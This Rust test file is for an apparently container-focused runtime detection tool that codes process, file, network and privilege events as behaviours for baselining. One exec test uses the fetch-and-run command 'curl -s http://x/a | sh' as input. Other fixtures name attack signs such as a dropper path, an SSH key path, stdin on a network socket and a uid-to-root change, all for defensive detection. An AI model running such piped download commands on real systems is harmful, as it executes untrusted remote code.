//! What is the same behaviour, and what is not.

mod support;

use plimsoll_baseline::{PeerNames, ResolvedNames, behaviours, paths, shape};
use plimsoll_model::event::{Dns, DupTarget, IpBytes};
use plimsoll_model::*;
use support::*;

fn coded(who: &Who, kind: EventKind) -> Vec<Behaviour> {
    let c = container("web", 0);
    behaviours(&see(&c, 1, who, kind), &c, &plimsoll_baseline::NoNames)
}

fn object(who: &Who, kind: EventKind) -> String {
    let all = coded(who, kind);
    assert_eq!(all.len(), 1, "{all:?}");
    all[0].object.to_string()
}

#[test]
fn an_exec_is_coded_by_parent_program_and_by_the_shape_of_its_arguments() {
    let all = coded(
        &who(&["/bin/sh", NGINX]),
        run_args("/bin/sh", &["-c", "curl -s http://x/a | sh"]),
    );
    assert_eq!(all.len(), 2);
    assert_eq!(all[0].kind, BehaviourKind::Exec);
    assert_eq!(all[0].program, NGINX.into());
    assert_eq!(all[0].object, "/bin/sh".into());
    assert_eq!(all[0].origin, Origin::Image);
    assert_eq!(all[1].kind, BehaviourKind::Arguments);
    assert_eq!(all[1].object, "-c <cmd:curl|sh>".into());
}

#[test]
fn a_script_is_part_of_what_was_started_and_never_runs_into_the_program() {
    let start = |exe: &str, script: &str| {
        let mut e = exec(exe);
        e.script = script.into();
        coded(&nginx(), EventKind::Exec(e))[0].id()
    };
    assert_ne!(start("/bin/sh", "/opt/a.sh"), start("/bin/sh", "/opt/b.sh"));
    assert_ne!(
        start("/bin/sh", "/opt/a.sh"),
        start("/bin/sh /opt/a.sh", "")
    );
}

#[test]
fn lifecycle_is_no_behaviour() {
    assert!(coded(&nginx(), EventKind::Exit { code: 0, signal: 0 }).is_empty());
    let fork = EventKind::Fork {
        child: ProcessKey::default(),
    };
    assert!(coded(&nginx(), fork).is_empty());
}

#[test]
fn the_same_service_is_no_stranger_after_the_agent_restarted() {
    let before = coded(&nginx(), read("/etc/nginx/nginx.conf"));
    let after = coded(
        &nginx().entry(Entry::FoundRunning),
        read("/etc/nginx/nginx.conf"),
    );
    let visitor = coded(
        &nginx().entry(Entry::ExecSession),
        read("/etc/nginx/nginx.conf"),
    );
    assert_eq!(before, after);
    assert_ne!(before, visitor);
}

#[test]
fn the_first_program_has_no_parent_whatever_the_runtime_is_called() {
    let start = |runtime: &'static str| {
        let mut e = exec(NGINX);
        e.first = true;
        coded(&who(&[NGINX, runtime]), EventKind::Exec(e))
    };
    assert_eq!(start("/usr/bin/runc"), start("/usr/bin/crun"));
    assert!(start("/usr/bin/runc")[0].program.is_empty());
}

#[test]
fn volatile_parts_of_paths_are_named_and_others_are_left() {
    for (path, coded) in [
        ("/proc/4711/stat", "/proc/<pid>/stat"),
        ("/proc/self/task/99/stat", "/proc/<pid>/task/<n>/stat"),
        ("/proc/meminfo", "/proc/meminfo"),
        ("/dev/pts/3", "/dev/pts/<n>"),
        ("/tmp/tmp.Ab3dE6gH1j", "/tmp/tmp.<rand>"),
        ("/tmp/tmpab3_e6gh/x", "/tmp/tmp<rand>/x"),
        ("/tmp/upload-aB3xZ9", "/tmp/upload-<rand>"),
        (
            "/var/cache/0a1b2c3d-0a1b-0a1b-0a1b-0a1b2c3d4e5f/f",
            "/var/cache/<uuid>/f",
        ),
        ("/var/spool/20241231/job", "/var/spool/<n>/job"),
        ("/usr/lib/libssl.so.1.1.1", "/usr/lib/libssl.so.1.1.1"),
        ("/root/.ssh/id_123456789", "/root/.ssh/id_123456789"),
        ("/tmp/dropper", "/tmp/dropper"),
    ] {
        assert_eq!(
            String::from_utf8_lossy(&paths::normalise(path.as_bytes())),
            coded
        );
    }
}

#[test]
fn shapes_keep_flags_and_type_values() {
    for (args, shape) in [
        (&["-g", "daemon off;"][..], "-g <str>"),
        (&["--port=8080", "-n", "12"], "--port=<n> -n <n>"),
        (&["http://a/b", "10.0.0.1", "/etc/x"], "<url> <ip> <path>"),
        (&["/a", "/b", "/c"], "<path>"),
        (&["start", "-n5"], "start -n<n>"),
        (&["0a1b2c3d-0a1b-0a1b-0a1b-0a1b2c3d4e5f"], "<uuid>"),
        (&["q8f3k0z1x7p"], "<str>"),
        (&[][..], "-"),
    ] {
        let argv: Vec<Text> = std::iter::once("prog")
            .chain(args.iter().copied())
            .map(Text::from)
            .collect();
        assert_eq!(shape::shape(b"/usr/bin/prog", &argv), shape, "{args:?}");
    }
}

#[test]
fn peers_are_named_by_service_then_by_resolved_name_then_by_address() {
    let c = container("web", 0);
    let mut names = ResolvedNames::new();
    let code = |names: &ResolvedNames, peer: &str| {
        behaviours(&see(&c, 1, &nginx(), connect(peer)), &c, names)[0]
            .object
            .to_string()
    };
    assert_eq!(code(&names, "10.0.0.5:443"), "tcp 10.0.0.5:443");
    assert_eq!(code(&names, "[2001:db8::1]:443"), "tcp [2001:db8::1]:443");
    let answer = EventKind::Dns(Dns {
        response: true,
        name: "API.Example.com.".into(),
        qtype: 1,
        rcode: 0,
        addresses: vec![IpBytes([10, 0, 0, 5].into())],
        server: None,
    });
    names.note(&see(&c, 1, &nginx(), answer));
    assert_eq!(code(&names, "10.0.0.5:443"), "tcp dns:api.example.com:443");
    assert!(names.set_service([10, 0, 0, 5].into(), "db"));
    assert_eq!(code(&names, "10.0.0.5:443"), "tcp service:db:443");
    let other = container("other", 0);
    assert_eq!(names.dns(&other.instance, [10, 0, 0, 5].into()), None);
}

#[test]
fn ephemeral_ports_and_own_addresses_do_not_make_new_behaviours() {
    let a = object(&nginx(), accept(80, "10.0.0.9:40000"));
    assert_eq!(a, object(&nginx(), accept(80, "10.0.0.9:50000")));
    assert_eq!(a, "tcp :80 from 10.0.0.9");
    let own = |ip: [u8; 4]| {
        object(
            &nginx(),
            EventKind::Listen {
                proto: Proto::Tcp,
                local: SockAddr::Inet(ip.into(), 80),
            },
        )
    };
    assert_eq!(own([172, 17, 0, 2]), own([172, 17, 0, 3]));
    assert_eq!(own([0, 0, 0, 0]), "tcp any:80");
    assert_ne!(own([0, 0, 0, 0]), own([127, 0, 0, 1]));
}

#[test]
fn every_other_kind_reads_as_a_person_would_say_it() {
    let caps = EventKind::Credentials {
        old_uid: 33,
        new_uid: 0,
        old_caps: 0,
        new_caps: 1 << 21,
    };
    let all = coded(&nginx(), caps);
    assert_eq!(all[0].object, "uid 33 -> 0".into());
    assert_eq!(all[1].object, "cap_sys_admin".into());
    let dup = EventKind::Dup {
        stream: 0,
        target: DupTarget::Inet,
        peer: None,
    };
    assert_eq!(object(&nginx(), dup), "stdin on network socket");
    let memfd = EventKind::Memfd {
        name: "jit-4711".into(),
    };
    assert_eq!(object(&nginx(), memfd), "jit-<n>");
    let socket = EventKind::Socket {
        family: 17,
        kind: 3,
        protocol: 768,
    };
    assert_eq!(object(&nginx(), socket), "packet raw 768");
    let kill = EventKind::Signal {
        signal: 9,
        target: 4242,
    };
    assert_eq!(object(&nginx(), kill), "SIGKILL to a process");
    assert_eq!(
        object(&nginx(), rename("/data/temp-12.rdb", "/data/dump.rdb")),
        "/data/temp-12.rdb -> /data/dump.rdb"
    );
}

#[test]
fn a_failed_call_is_another_behaviour_than_one_that_worked() {
    let mut kind = file(FileOp::Unlink, "/data/x", Origin::Upper);
    if let EventKind::File(f) = &mut kind {
        f.result = -2;
    }
    assert_eq!(coded(&nginx(), kind)[0].operation, "failed".into());
}

#[test]
fn long_objects_are_cut_and_still_tell_apart() {
    let path = |end: &str| format!("/{}{end}", "x".repeat(3000));
    let (a, b) = (
        coded(&nginx(), write(&path("a"))),
        coded(&nginx(), write(&path("b"))),
    );
    assert!(a[0].object.len() <= plimsoll_baseline::code::MAX_OBJECT);
    assert_ne!(a[0].id(), b[0].id());
}

#[test]
fn resolved_names_are_bounded() {
    let mut names = ResolvedNames::new();
    let full = (0..plimsoll_baseline::peers::MAX_SERVICES as u32)
        .all(|n| names.set_service(std::net::Ipv4Addr::from(n).into(), "s"));
    assert!(full);
    assert!(!names.set_service([255, 0, 0, 1].into(), "s"));
}
